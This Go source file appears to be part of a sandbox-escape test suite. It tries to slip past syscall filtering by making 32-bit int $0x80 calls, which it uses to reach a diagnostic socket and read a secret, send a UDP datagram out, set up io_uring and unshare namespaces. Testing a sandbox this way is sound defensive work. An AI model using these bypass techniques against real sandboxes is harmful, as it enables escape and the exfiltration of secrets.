package escape

import (
	"encoding/binary"
	"errors"
	"fmt"
	"net"
	"strconv"
	"unsafe"

	"golang.org/x/sys/unix"
)

// int80 makes a 32-bit system call through int $0x80 (compat_amd64.s).
// Pointers passed to it must lie below 4 GiB (low).
func int80(nr, a1, a2, a3, a4, a5 uint32) int32

// i386 system call numbers (arch/x86/entry/syscalls/syscall_32.tbl).
const (
	nrRead         = 3
	nrClose        = 6
	nrSocketcall   = 102
	nrUnshare      = 310
	nrSocket       = 359
	nrConnect      = 362
	nrIoUringSetup = 425
	sysSocket      = 1  // socketcall's SYS_SOCKET
	sysSendto      = 11 // socketcall's SYS_SENDTO
)

// low is memory below 4 GiB, where a 32-bit call can point.
func low() ([]byte, error) {
	b, err := unix.Mmap(-1, 0, 4096, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_PRIVATE|unix.MAP_ANONYMOUS|unix.MAP_32BIT)
	if err != nil {
		return nil, fmt.Errorf("mmap below 4 GiB: %w", err)
	}
	return b, nil
}

func addr32(b []byte) uint32 { return uint32(uintptr(unsafe.Pointer(&b[0]))) }

func ret(r int32) error {
	if r < 0 && r > -4096 {
		return unix.Errno(-r)
	}
	return nil
}

func compat() []Attempt {
	return []Attempt{
		{"int $0x80: socket and connect to the diagnostic socket", func(t Targets) (int, error) {
			mem, err := low()
			if err != nil {
				return 0, err
			}
			fd := int80(nrSocket, unix.AF_UNIX, unix.SOCK_STREAM, 0, 0, 0)
			if err := ret(fd); err != nil {
				return 0, fmt.Errorf("socket: %w", err)
			}
			defer int80(nrClose, uint32(fd), 0, 0, 0, 0)
			binary.LittleEndian.PutUint16(mem, unix.AF_UNIX)
			n := copy(mem[2:110], t.Diag)
			if err := ret(int80(nrConnect, uint32(fd), addr32(mem), uint32(2+n+1), 0, 0)); err != nil {
				return 0, fmt.Errorf("connect: %w", err)
			}
			buf := mem[1024:]
			r := int80(nrRead, uint32(fd), addr32(buf), 256, 0, 0)
			if err := ret(r); err != nil {
				return 0, fmt.Errorf("read: %w", err)
			}
			return 0, readSecret(bytesReader(buf[:r]), t.Secret)
		}},
		{"int $0x80: socketcall(AF_INET) and a UDP datagram out", func(t Targets) (int, error) {
			mem, err := low()
			if err != nil {
				return 0, err
			}
			args := mem[:32]
			for i, v := range []uint32{unix.AF_INET, unix.SOCK_DGRAM, 0} {
				binary.LittleEndian.PutUint32(args[4*i:], v)
			}
			fd := int80(nrSocketcall, sysSocket, addr32(args), 0, 0, 0)
			if err := ret(fd); err != nil {
				return 0, fmt.Errorf("socketcall(socket): %w", err)
			}
			defer int80(nrClose, uint32(fd), 0, 0, 0, 0)
			host, port, _ := net.SplitHostPort(t.UDP)
			p, _ := strconv.Atoi(port)
			ip := net.ParseIP(host).To4()
			if ip == nil {
				return 0, errors.New("not an IPv4 target")
			}
			sa, msg := mem[64:80], mem[128:134]
			binary.LittleEndian.PutUint16(sa, unix.AF_INET)
			binary.BigEndian.PutUint16(sa[2:], uint16(p))
			copy(sa[4:], ip)
			copy(msg, "a face")
			for i, v := range []uint32{uint32(fd), addr32(msg), 6, 0, addr32(sa), 16} {
				binary.LittleEndian.PutUint32(args[4*i:], v)
			}
			return 0, ret(int80(nrSocketcall, sysSendto, addr32(args), 0, 0, 0))
		}},
		{"int $0x80: io_uring_setup", func(t Targets) (int, error) {
			mem, err := low()
			if err != nil {
				return 0, err
			}
			fd := int80(nrIoUringSetup, 1, addr32(mem), 0, 0, 0)
			if err := ret(fd); err != nil {
				return 0, err
			}
			int80(nrClose, uint32(fd), 0, 0, 0, 0)
			return 0, nil
		}},
		{"int $0x80: unshare a namespace", func(t Targets) (int, error) {
			return 0, ret(int80(nrUnshare, unix.CLONE_NEWNET|unix.CLONE_NEWUTS, 0, 0, 0, 0))
		}},
	}
}

type bytesReader []byte

func (b bytesReader) Read(p []byte) (int, error) { return copy(p, b), nil }
